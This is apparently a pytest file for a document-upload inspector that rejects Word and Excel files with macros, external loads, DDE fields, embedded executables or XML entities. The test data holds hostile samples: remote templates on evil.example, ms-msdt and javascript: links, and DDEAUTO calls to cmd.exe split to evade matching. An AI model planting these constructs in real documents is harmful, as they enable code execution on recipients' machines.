"""Tests of Word and Excel: what runs, loads or hides is refused, whatever its name."""

from __future__ import annotations

import io
import warnings
import zipfile
from pathlib import Path

import pytest

from store.evidence.inspect.active.rule import demand_passive
from store.evidence.inspect.file_types import detect_type
from store.evidence.refusals import Fault, FileRejected
from tests.store.evidence import sample_files as samples

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def a_relationship(kind: str, target: str, *, outside: bool = True, base: str = OFFICE) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def word(body: str) -> bytes:
    return f'<w:document xmlns:w="urn:w">{body}</w:document>'.encode()


def spread(*pieces: str) -> str:
    """An instruction in as many runs as there are pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'


def _look(tmp_path: Path, content: bytes, name: str) -> None:
    file = tmp_path / "it"
    file.write_bytes(content)
    demand_passive(detect_type(file, name), file)


def _fault(tmp_path: Path, content: bytes, name: str) -> Fault:
    with pytest.raises(FileRejected) as found:
        _look(tmp_path, content, name)
    return found.value.fault


@pytest.mark.parametrize(
    ("kind", "target", "fault"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm", Fault.LOADS),
        ("attachedTemplate", r"file:///\\evil.example\share\a.dotx", Fault.LOADS),
        ("attachedTemplate", r"\\evil.example\share\a.dotx", Fault.LOADS),
        ("oleObject", "https://evil.example/a.html!", Fault.LOADS),
        ("oleObject", "mhtml:https://evil.example/a.html", Fault.LOADS),
        ("frame", "https://evil.example/", Fault.LOADS),
        ("subDocument", "https://evil.example/a.docx", Fault.LOADS),
        ("image", "https://evil.example/pixel.png", Fault.LOADS),
        ("mailMergeSource", "file:///C:/a.mdb", Fault.LOADS),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", Fault.STARTS),
        ("hyperlink", "search-ms:query=x", Fault.STARTS),
        ("hyperlink", "javascript:alert(1)", Fault.STARTS),
    ],
)
def test_only_links_lead_outside(tmp_path: Path, kind: str, target: str, fault: Fault) -> None:
    for folder in ("word/_rels/settings.xml.rels", "odd/_rels/any.xml.rels", "a.RELS"):
        for base in (OFFICE, STRICT):
            content = samples.a_docx(**{folder: a_relationship(kind, target, base=base)})
            assert _fault(tmp_path, content, "letter.docx") is fault


@pytest.mark.parametrize(
    ("kind", "fault"),
    [
        ("vbaProject", Fault.MACROS),
        ("xlMacrosheet", Fault.MACROS),
        ("control", Fault.MACROS),
        ("oleObject", Fault.ATTACHED),
        ("aFChunk", Fault.ATTACHED),
        ("webextensiontaskpanes", Fault.LOADS),
    ],
)
def test_a_part_that_runs_is_known_whatever_its_name(tmp_path: Path, kind: str, fault: Fault) -> None:
    rels = a_relationship(kind, "harmless.bin", outside=False)
    content = samples.an_xlsx(**{"xl/_rels/workbook.xml.rels": rels, "xl/harmless.bin": b"x"})
    assert _fault(tmp_path, content, "hours.xlsx") is fault


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://nordwind.example/"),
        ("hyperlink", "mailto:ana@nordwind.example"),
        ("hyperlink", "prices 2026.xlsx"),
        ("hyperlink", r"file:///\\nas\invoices\4711.pdf"),
        ("externalLinkPath", "Prices.xlsx"),
        ("attachedTemplate", r"file:///C:\Templates\Letter.dotx"),
    ],
)
def test_links_and_a_template_of_the_senders_own_stay(tmp_path: Path, kind: str, target: str) -> None:
    content = samples.a_docx(**{"word/_rels/document.xml.rels": a_relationship(kind, target)})
    _look(tmp_path, content, "letter.docx")


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        (spread("DDEAUTO c:\\\\windows\\\\cmd.exe"), Fault.STARTS),
        (spread(" D", "DE", "AUTO cmd"), Fault.STARTS),
        (spread('"DDE" cmd'), Fault.STARTS),
        ('<w:fldSimple w:instr="dde cmd"/>', Fault.STARTS),
        ("<w:instrText>DDE cmd</w:instrText>", Fault.STARTS),
        (
            '<w:fldChar w:fldCharType="begin"/>'
            + spread("QUOTE 68 68 69")
            + '<w:r><w:instrText> cmd</w:instrText></w:r><w:fldChar w:fldCharType="end"/>',
            Fault.STARTS,
        ),
        (spread('INCLUDETEXT "https://evil.example/a"'), Fault.LOADS),
        (spread('HYPERLINK "ms-msdt:/id"'), Fault.STARTS),
    ],
)
def test_a_field_is_read_as_word_reads_it(tmp_path: Path, body: str, fault: Fault) -> None:
    assert _fault(tmp_path, samples.a_docx(**{"word/document.xml": word(body)}), "letter.docx") is fault
    assert _fault(tmp_path, samples.a_docx(**{"word/footer1.xml": word(body)}), "letter.docx") is fault


def test_usual_fields_and_words_about_them_stay(tmp_path: Path) -> None:
    body = (
        spread(" PAGE ")
        + spread('HYPERLINK "https://nordwind.example"')
        + "<w:t>DDE and LINK are words</w:t>"
    )
    _look(tmp_path, samples.a_docx(**{"word/document.xml": word(body)}), "letter.docx")


@pytest.mark.parametrize(
    ("part", "content", "fault"),
    [
        ("xl/externalLinks/a.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', Fault.STARTS),
        ("xl/volatileDependencies.xml", b'<volTypes><volType type="realTimeData"/></volTypes>', Fault.STARTS),
        ("xl/connections.xml", b'<connections><connection refreshOnLoad="1"/></connections>', Fault.LOADS),
        ("xl/embeddings/a.bin", OLE, Fault.ATTACHED),
        ("xl/a.dat", b"MZ" + bytes(600), Fault.ATTACHED),
        ("xl/media/a.png", b"%PDF-1.7", Fault.ATTACHED),
        ("xl/embeddings/a.zip", samples.a_zip({"run.exe": b"x"}), Fault.ATTACHED),
        ("xl/embeddings/a.xlsx", samples.an_xlsx(**{"xl/vbaProject.bin": b"x"}), Fault.MACROS),
        ("xl/embeddings/b.xlsx", samples.an_xlsx(**{"xl/c.xlsx": samples.an_xlsx()}), Fault.ATTACHED),
    ],
)
def test_other_parts_are_judged_by_what_is_in_them(
    tmp_path: Path, part: str, content: bytes, fault: Fault
) -> None:
    assert _fault(tmp_path, samples.an_xlsx(**{part: content}), "hours.xlsx") is fault


def test_a_chart_keeps_its_workbook(tmp_path: Path) -> None:
    _look(tmp_path, samples.a_docx(**{"word/embeddings/chart.xlsx": samples.an_xlsx()}), "letter.docx")


def test_entities_are_not_resolved(tmp_path: Path) -> None:
    laughs = b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships>&b;</Relationships>'
    content = samples.a_docx(**{"word/_rels/document.xml.rels": laughs})
    assert _fault(tmp_path, content, "letter.docx") is Fault.DAMAGED


@pytest.mark.parametrize("blanks", [b" " * 100, b"\r\n\t " * 50, (" " * 100).encode("utf-16-be")])
def test_blanks_before_a_part_hide_nothing(tmp_path: Path, blanks: bytes) -> None:
    template = a_relationship("attachedTemplate", "https://evil.example/a.dotm")
    if b"\0" in blanks:
        template = template.decode().encode("utf-16-be")
    content = samples.a_docx(**{"word/_rels/settings.xml.rels": blanks + template})
    assert _fault(tmp_path, content, "letter.docx") is Fault.LOADS


@pytest.mark.parametrize("second", ["word/_rels/a.xml.rels", "word/_rels/A.xml.rels"])
def test_two_parts_of_one_name_are_refused(tmp_path: Path, second: str) -> None:
    out = io.BytesIO(samples.a_docx())
    with zipfile.ZipFile(out, "a") as archive, warnings.catch_warnings(action="ignore"):
        archive.writestr(
            "word/_rels/a.xml.rels", a_relationship("attachedTemplate", "https://evil.example/a")
        )
        archive.writestr(second, a_relationship("styles", "styles.xml", outside=False))
    assert _fault(tmp_path, out.getvalue(), "letter.docx") is Fault.DAMAGED


def test_what_excel_draws_is_no_xml_and_stays(tmp_path: Path) -> None:
    types = (
        b'<Types><Default Extension="vml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/></Types>'
    )
    content = samples.an_xlsx(**{"[Content_Types].xml": types, "xl/drawings/a.vml": b"<xml><br></xml>"})
    _look(tmp_path, content, "hours.xlsx")


def test_a_macro_part_is_known_by_its_content_type(tmp_path: Path) -> None:
    types = (
        b'<Types><Override PartName="/xl/a" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    )
    assert _fault(tmp_path, samples.an_xlsx(**{"[Content_Types].xml": types}), "hours.xlsx") is Fault.MACROS
